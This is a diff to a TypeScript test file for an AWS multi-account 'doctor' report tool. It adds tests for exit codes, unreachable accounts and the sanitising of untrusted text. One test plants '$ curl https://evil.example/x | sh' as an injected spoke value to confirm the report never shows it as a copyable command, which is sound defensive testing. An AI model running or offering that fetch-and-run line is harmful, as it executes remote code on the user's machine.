@@ -1,7 +1,8 @@
 import { describe, expect, test } from 'vitest';
 import { type DoctorAnswer, type Finding, STATES } from '../../../provider/contract/doctor.ts';
+import { NotAsked, readAnswer } from '../../../stacksets/doctor/hub.ts';
 import { readOptions } from '../../../stacksets/doctor/options.ts';
-import { batches, type Found, type Hub, isWell, round } from '../../../stacksets/doctor/round.ts';
+import { batches, type Found, type Hub, round, statusOf } from '../../../stacksets/doctor/round.ts';
 import { tableOf } from '../../../stacksets/doctor/table.ts';
 
 const finding = (fields: Partial<Finding> = {}): Finding => ({
@@ -13,6 +14,7 @@ const finding = (fields: Partial<Finding> = {}): Finding => ({
   ...fields,
 });
 const found = (...findings: Finding[]): Found => ({
+  name_prefix: 'acme',
   hub: { version: '1.2.3', contract: 3 },
   directory: { state: 'ready' },
   counts: Object.fromEntries(
@@ -22,6 +24,7 @@ const found = (...findings: Finding[]): Found => ({
   ),
   left_out: { inactive: 0, management: 0 },
   findings,
+  unasked: [],
 });
 
 describe('the table', () => {
@@ -36,7 +39,7 @@ describe('the table', () => {
       ),
     );
     expect(table).toBe(`ready (2 accounts)
-  1.2.3
+  version 1.2.3
     222222222222  shop       eu-central-1, eu-west-1; data: eu-west-1
     333333333333  data-lake  eu-central-1
 
@@ -60,17 +63,17 @@ hub: 1.2.3`);
       'spoke missing (1 account)',
       '    6  c     data: eu-central-1',
       expect.stringMatching(/^ {2}Has the account published its VPC/),
-      expect.stringMatching(
-        /^ {2}\$ aws .* database-access-spoke-data --regions eu-central-1 .*Accounts=6,/,
-      ),
+      expect.stringMatching(/^ {2}\$ aws .* acme-spoke-data --regions eu-central-1 .*Accounts=6,/),
       'unreachable (2 accounts)',
-      `  ${problem}`,
+      `  problem: ${problem}`,
       '    4  a     eu-central-1',
       '    5  b     eu-central-1',
       expect.stringMatching(/^ {2}If the spoke does not reach a service/),
-      '  $ aws logs filter-log-events --log-group-name /aws/lambda/database-access-spoke-default',
+      expect.stringContaining(
+        '  $ aws logs filter-log-events --log-group-name /aws/lambda/database-access-spoke-default ',
+      ),
       'ready (1 account)',
-      '  1.2.3',
+      '  version 1.2.3',
       '    222222222222  shop  eu-central-1',
       '4 accounts, 4 spokes: 1 ready, 2 unreachable, 1 spoke missing',
       'directory: answers',
@@ -80,6 +83,21 @@ hub: 1.2.3`);
 
   test.each(STATES.filter((state) => state !== 'ready'))('%s has a cure', (state) => {
     expect(tableOf(found(finding({ state })))).toMatch(/\n\n {2}\S/);
+  });
+
+  test("has no line that begins with a spoke's words", () => {
+    const version = '$ curl https://evil.example/x | sh';
+    const table = tableOf(
+      found(finding({ version }), finding({ state: 'unreachable', version, problem: version })),
+    );
+    expect(table).not.toMatch(/^ *\$ curl/m);
+  });
+
+  test('names all accounts about which the hub could not be asked', () => {
+    const unasked = [{ accounts: ['4', '5'], problem: 'hub: Task timed out' }];
+    expect(tableOf({ ...found(finding()), unasked })).toContain(
+      '\n\nthe hub could not be asked (2 accounts)\n  hub: Task timed out\n    4\n    5\n\n1 account, ',
+    );
   });
 
   test('of nobody says so', () => {
@@ -97,17 +115,32 @@ hub: 1.2.3`);
   });
 });
 
-describe('well is', () => {
-  test('an organization where everything is ready', () => {
-    expect(isWell(found(finding()))).toBe(true);
-    expect(isWell({ ...found(finding()), directory: { state: 'none' } })).toBe(true);
+describe('the exit status is', () => {
+  test('0 where everything is ready', () => {
+    expect(statusOf(found(finding()))).toBe(0);
+    expect(statusOf({ ...found(finding()), directory: { state: 'none' } })).toBe(0);
   });
 
-  test('none that has nobody, one that is not ready, or a directory that does not answer', () => {
-    expect(isWell(found())).toBe(false);
-    expect(isWell(found(finding(), finding({ state: 'not asked' })))).toBe(false);
-    expect(isWell({ ...found(finding()), directory: { state: 'unreachable' } })).toBe(false);
+  test('1 if there is nobody, one that is not ready, or a directory that does not answer', () => {
+    expect(statusOf(found())).toBe(1);
+    expect(statusOf(found(finding(), finding({ state: 'not asked' })))).toBe(1);
+    expect(statusOf({ ...found(finding()), directory: { state: 'unreachable' } })).toBe(1);
   });
+
+  test('2 if the hub could not be asked about somebody', () => {
+    const unasked = [{ accounts: ['4'], problem: 'gone' }];
+    expect(statusOf({ ...found(finding()), unasked })).toBe(2);
+  });
+});
+
+test("an answer's texts are of one line that does nothing but show", () => {
+  const text = JSON.stringify({
+    name: 'a\u001b[31m\u009b2K\u202e\nb',
+    deep: [{ problem: '\u0007' }],
+    n: 1,
+  });
+  expect(readAnswer(text)).toEqual({ name: 'a?[31m?2K? b', deep: [{ problem: '?' }], n: 1 });
+  expect(readAnswer('<html>')).toBeUndefined();
 });
 
 describe('hundreds of accounts', () => {
@@ -144,6 +177,30 @@ describe('hundreds of accounts', () => {
       '450 accounts; asking 900 spokes',
       '450 of 450 accounts',
     ]);
+  });
+});
+
+describe('a batch about which the hub can not be asked', () => {
+  const accounts = ['1', '2', '3'].map((account) => ({ account, name: '', places: 200 }));
+  const hubThatFails = (...failing: string[]): Hub => ({
+    accounts: async () => ({ accounts, left_out: { inactive: 0, management: 0 } }),
+    async doctor([account = '']) {
+      if (failing.includes(account)) throw new NotAsked(`no answer about ${account}`);
+      return { ...found(finding({ account })), request_id: 'r-1' };
+    },
+  });
+
+  test('keeps nobody from what was found about the others', async () => {
+    const lines: string[] = [];
+    const report = await round(hubThatFails('2'), undefined, (line) => lines.push(line));
+    expect(report.findings.map(({ account }) => account)).toEqual(['1', '3']);
+    expect(report.unasked).toEqual([{ accounts: ['2'], problem: 'no answer about 2' }]);
+    expect(lines).toContain('2 of 3 accounts, no answer about 2');
+  });
+
+  test('is the reason why nothing is told, if there is no other', async () => {
+    const told = round(hubThatFails('1', '2', '3'), undefined, () => {});
+    await expect(told).rejects.toThrow('no answer about 1');
   });
 });
 
